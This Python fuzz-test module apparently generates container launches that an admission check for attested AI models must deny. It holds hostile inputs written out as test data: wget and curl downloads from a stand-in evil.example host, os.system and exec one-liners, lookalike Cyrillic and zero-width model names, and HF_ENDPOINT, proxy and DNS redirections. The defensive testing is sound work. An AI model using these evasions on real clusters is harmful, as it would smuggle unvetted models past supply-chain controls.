"""What a container loads, before any disguise: one good launch, and evil ones that must never be admitted.

Every evil launch names, in plain words that the tables or facts/workloads.md sections 5, 6 and 9 know, something that nobody
attested: another model, another revision, another hub, code of the repository.
"""

import json
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from tests.fuzz.world import IMAGE, MODEL, REVISION

Object = dict[str, Any]

EVIL = "evil/model"
EVIL_COMMIT = "e0" * 20
ADDRESS = {"name": "HF_ENDPOINT", "value": "https://huggingface.co"}


@dataclass(slots=True)
class Launch:
    """One container that loads something.

    Attributes:
        label: what it does, in words.
        words: its command line; empty where environment or image say everything.
        env: its environment.
        image: what it runs.
        more: further fields of the container.
        spec: further fields of the Pod spec; lists are appended.
        programmed: whether the first words name a program, so that wrappers and shells can stand in front.
        engine: whose options the words are.
        flaws: disguises that would change what it does.
    """

    label: str
    words: list[str] = field(default_factory=list)
    env: list[Object] = field(default_factory=lambda: [dict(ADDRESS)])
    image: str = IMAGE
    more: Object = field(default_factory=dict)
    spec: Object = field(default_factory=dict)
    programmed: bool = True
    engine: str = ""
    flaws: frozenset[str] = frozenset()


def _vllm(label: str, *extra: str, model: str = MODEL, revision: str = REVISION, **more: Any) -> Launch:
    pin = ["--revision", revision] if revision else []
    return Launch(label, ["vllm", "serve", model, *pin, "--tokenizer-revision", revision or "main", *extra], engine="vllm", **more)


def good() -> Launch:
    """The attested model at its commit."""
    return _vllm("attested")


def _servers(rng: random.Random) -> Launch:
    words = rng.choice(
        [
            ["vllm", "serve", EVIL, "--revision", EVIL_COMMIT],
            ["vllm", "serve", "--model", EVIL, "--revision", EVIL_COMMIT],
            ["python3", "-m", "vllm.entrypoints.openai.api_server", "--model", EVIL],
            ["python3", "-u", "-m", "sglang.launch_server", "--model-path", EVIL, "--port", "30000"],
            ["text-generation-launcher", "--model-id", EVIL],
            ["text-embeddings-router", "--model-id", EVIL],
            ["lmdeploy", "serve", "api_server", EVIL],
            ["trtllm-serve", EVIL],
            ["llama-server", "-hf", f"{EVIL}:Q4_K_M"],
            ["llama-server", "--model-url", "https://huggingface.co/evil/model/resolve/main/x.gguf"],
            ["ollama", "pull", "evil/model"],
            ["ollama", "run", "hf.co/evil/model"],
            ["tritonserver", "--model-repository=s3://evil/models"],
            ["tensorflow_model_server", "--model_base_path=gs://evil/model"],
        ]
    )
    engine = {"vllm": "vllm", "python3": "vllm"}.get(words[0], "")
    flaws = frozenset({"underscores"}) if words[0] != "vllm" else frozenset()
    return Launch("serves an unattested model", words, engine=engine, flaws=flaws)


def _downloads(rng: random.Random) -> Launch:
    words = rng.choice(
        [
            ["hf", "download", EVIL, "--revision", EVIL_COMMIT, "--local-dir", "/models/guard"],
            ["hf", "download", "--revision", EVIL_COMMIT, EVIL],
            ["huggingface-cli", "download", EVIL, "--local-dir", "/models/guard"],
            ["git", "clone", "https://huggingface.co/evil/model", "/models/guard"],
            ["git", "clone", "--depth", "1", "https://hf.co/evil/model", "/models/guard"],
            ["modelscope", "download", "--model", EVIL],
            ["aws", "s3", "cp", "--recursive", "s3://evil/model", "/models/guard"],
            ["gsutil", "-m", "cp", "-r", "gs://evil/model", "/models/guard"],
            ["oras", "pull", "registry.evil.example/models/evil:1"],
            ["wget", "-O", "/models/guard/model.safetensors", "https://evil.example/model.safetensors"],
            ["curl", "-L", "-o", "/models/guard/model.safetensors", "https://evil.example/model.safetensors"],
        ]
    )
    return Launch("downloads an unattested model", words, flaws=frozenset({"underscores"}))


def _python(rng: random.Random) -> Launch:
    code = rng.choice(
        [
            f"from huggingface_hub import snapshot_download\nsnapshot_download(repo_id='{EVIL}', local_dir='/models/guard')",
            f"from huggingface_hub import snapshot_download as s; s('{EVIL}')",
            f"import huggingface_hub as h\nh.snapshot_download('{EVIL}')",
            f"from transformers import AutoModel; AutoModel.from_pretrained('{EVIL}')",
            f"import transformers\ntransformers.pipeline('text-generation', model='{EVIL}')",
            f"from vllm import LLM\nLLM(model='{EVIL}', revision='{EVIL_COMMIT}')",
            f"m = '{EVIL}'\nfrom vllm import LLM\nLLM(m)",
            f"from sentence_transformers import SentenceTransformer\nSentenceTransformer('{EVIL}')",
            f"import os\nos.system('vllm serve {EVIL}')",
            f"__import__('os').system('vllm serve {EVIL}')",
            f"exec('import os; os.popen(\"vllm serve {EVIL}\")')",
            f"import subprocess\nsubprocess.run(['vllm', 'serve', '{EVIL}'])",
            f"import subprocess as s\ns.check_call('hf download {EVIL} --local-dir /models/guard', shell=True)",
            f"import os\nos.execvp('vllm', ['vllm', 'serve', '{EVIL}'])",
        ]
    )
    return Launch("loads an unattested model from Python", ["python3", "-c", code], flaws=frozenset({"underscores"}))


def _unpinned(rng: random.Random) -> Launch:
    floating = rng.choice(["", "main", "v1.0", REVISION[:-1], REVISION[:12], REVISION.upper(), "refs/pr/1", EVIL_COMMIT])
    return _vllm("serves another revision", revision=floating)


def _names(rng: random.Random) -> Launch:
    name = rng.choice(
        [
            "acme/guard-7B",
            "Acme/guard-7b",
            "acme/guard_7b",
            "acme/guard-7b-evil",
            "acme/guаrd-7b",  # noqa: RUF001 - Cyrillic a: the attack
            "ａcme/guard-7b",  # noqa: RUF001 - full width: the attack
            "acme/guard-7b\u200b",
            "./acme/guard-7b",
            "acme//guard-7b",
            "evil/../acme/guard-7b",
            "hf.co/evil/model",
            "https://huggingface.co/evil/model",
            "s3://evil/guard-7b",
            "guard-7b",
            "evil/guard-7b",
        ]
    )
    return _vllm("serves a name that looks like the attested one", model=name)


def _options(rng: random.Random) -> Launch:
    extra = rng.choice(
        [
            ["--trust-remote-code"],
            ["--trust_remote_code"],
            ["--tokenizer", "evil/tokenizer"],
            ["--lora-modules", f"a={EVIL}"],
            ["--lora-modules", json.dumps({"name": "a", "path": EVIL})],
            ["--enable-lora", "--lora-modules", "a=acme/ok", f"b={EVIL}"],
            ["--speculative-config", json.dumps({"model": EVIL, "num_speculative_tokens": 5})],
            ["--speculative-config.model", EVIL],
            ["--speculative_config.model", EVIL],
            ["--speculative-model", EVIL],
            ["--revision", "main"],
            [f"--revision={EVIL_COMMIT}"],
            ["--model", EVIL],
            [f"--model={EVIL}"],
            ["--load-format", "runai_streamer", "--model-loader-extra-config", '{"tensorizer_uri": "s3://evil/x"}'],
            ["--model-loader-extra-config", '{"tensorizer_uri": "s3://evil/x"}', "--load-format", "tensorizer"],
            ["--hf-config-path", EVIL],
            ["--config", "/etc/guard/vllm.yaml"],
            ["--enable-lora", "--max-loras", "4"],
            ["--qlora-adapter-name-or-path", EVIL],
            ["--default-mm-loras", json.dumps({"audio": EVIL})],
            ["--some-new-model-flag", EVIL],
        ]
    )
    launch = _vllm(f"the attested model with {extra[0]}", *extra)
    if any(word.startswith("{") for word in extra):
        launch.flaws = frozenset({"dotted"})
    return launch


_ADDRESSES: tuple[Callable[[], list[Object]], ...] = (
    lambda: [{"name": "HF_ENDPOINT", "value": "https://evil.example"}],
    lambda: [{"name": "HF_ENDPOINT", "value": "http://huggingface.co"}],
    lambda: [{"name": "HF_ENDPOINT", "value": "https://huggingface.co.evil.example"}],
    lambda: [{"name": "HF_ENDPOINT", "value": "https://huggingface.co@evil.example"}],
    lambda: [{"name": "HF_ENDPOINT", "value": "https://huggingface.co:8443"}],
    lambda: [{"name": "HF_ENDPOINT", "value": "https://hf-mirror.com/"}],
    lambda: [dict(ADDRESS), {"name": "HF_ENDPOINT", "value": "https://evil.example"}],
    lambda: [{"name": "E", "value": "evil.example"}, {"name": "HF_ENDPOINT", "value": "https://$(E)"}],
    lambda: [{"name": "HF_ENDPOINT", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}],
    lambda: [{"name": "HF_ENDPOINT", "valueFrom": {"configMapKeyRef": {"name": "s", "key": "k"}}}],
    lambda: [{"name": "HF_ENDPOINT", "valueFrom": {"fieldRef": {"fieldPath": "metadata.labels['x']"}}}],
    lambda: [dict(ADDRESS), {"name": "HTTPS_PROXY", "value": "http://evil.example:3128"}],
    lambda: [dict(ADDRESS), {"name": "https_proxy", "value": "http://evil.example:3128"}],
    lambda: [dict(ADDRESS), {"name": "ALL_PROXY", "value": "socks5://evil.example"}],
    lambda: [dict(ADDRESS), {"name": "SSL_CERT_FILE", "value": "/models/ca.pem"}, {"name": "all_proxy", "value": "http://e"}],
    lambda: [dict(ADDRESS), {"name": "VLLM_USE_MODELSCOPE", "value": "True"}],
    lambda: [dict(ADDRESS), {"name": "VLLM_USE_MODELSCOPE", "value": "1"}],
    lambda: [dict(ADDRESS), {"name": "VLLM_MODEL_REDIRECT_PATH", "value": "/models/redirect"}],
    lambda: [dict(ADDRESS), {"name": "VLLM_ALLOW_RUNTIME_LORA_UPDATING", "value": "True"}],
    lambda: [dict(ADDRESS), {"name": "VLLM_LORA_RESOLVER_HF_REPO_LIST", "value": EVIL}],
    lambda: [dict(ADDRESS), {"name": "VLLM_ADDITIONAL_ARGS", "value": f"--lora-modules a={EVIL}"}],
)


def _resolvers(rng: random.Random) -> Launch:
    index = rng.randrange(len(_ADDRESSES))
    launch = _vllm(f"the attested model from elsewhere ({index})")
    launch.env = _ADDRESSES[index]()
    launch.flaws = frozenset({"assignments"})
    return launch


def _sources(rng: random.Random) -> Launch:
    launch = _vllm("envFrom decides the hub")
    launch.env = []
    source = rng.choice(
        [{"secretRef": {"name": "s"}}, {"configMapRef": {"name": "s"}}, {"prefix": "HF_", "configMapRef": {"name": "s"}}]
    )
    launch.more = {"envFrom": [source]}
    launch.flaws = frozenset({"assignments"})
    return launch


def _pod_fields(rng: random.Random) -> Launch:
    spec = rng.choice(
        [
            {"hostAliases": [{"ip": "10.6.6.6", "hostnames": ["huggingface.co"]}]},
            {"dnsPolicy": "None", "dnsConfig": {"nameservers": ["10.6.6.6"]}},
        ]
    )
    return _vllm("names of the hub are answered elsewhere", spec=spec)


def _environment(rng: random.Random) -> Launch:
    image, name = rng.choice(
        [
            ("ghcr.io/huggingface/text-generation-inference:3.0", "MODEL_ID"),
            ("ghcr.io/huggingface/text-embeddings-inference:1.7", "MODEL_ID"),
            ("ghcr.io/ggml-org/llama.cpp:server", "LLAMA_ARG_HF_REPO"),
            ("nvcr.io/nim/meta/llama:1", "NIM_MODEL_NAME"),
            ("kserve/storage-initializer:v0.15", "STORAGE_URI"),
        ]
    )
    value = f"hf://{EVIL}" if name in {"NIM_MODEL_NAME", "STORAGE_URI"} else EVIL
    env = [dict(ADDRESS), {"name": name, "value": value}]
    return Launch(f"{name} alone", env=env, image=image, programmed=False)


def _volumes(rng: random.Random) -> Launch:
    volume: Object = rng.choice(
        [
            {"image": {"reference": "registry.acme.example/adapters/guard@sha256:" + "66" * 32}},
            {"image": {"reference": "registry.acme.example/adapters/guard:latest"}},
            {"csi": {"driver": "hf.csi.huggingface.co", "volumeAttributes": {"sourceType": "repo", "sourceId": EVIL}}},
            {
                "csi": {
                    "driver": "model.csi.modelpack.org",
                    "volumeAttributes": {"model.csi.modelpack.org/reference": "r.io/evil:1"},
                }
            },
            {"persistentVolumeClaim": {"claimName": "evil"}},
            {"hostPath": {"path": "/evil"}},
            {"nfs": {"server": "evil.example", "path": "/evil"}},
        ]
    )
    launch = Launch("serves what an unattested volume holds", ["vllm", "serve", "/evil/model"], engine="vllm")
    launch.spec = {"volumes": [{"name": "evil", **volume}]}
    launch.more = {"volumeMounts": [{"name": "evil", "mountPath": rng.choice(["/evil", "/evil/model", "/evil/"])}]}
    return launch


_KINDS = (_servers, _downloads, _python, _unpinned, _names, _options, _resolvers, _sources, _pod_fields, _environment, _volumes)


def evil(rng: random.Random) -> Launch:
    """One launch that must be denied."""
    return rng.choice(_KINDS)(rng)
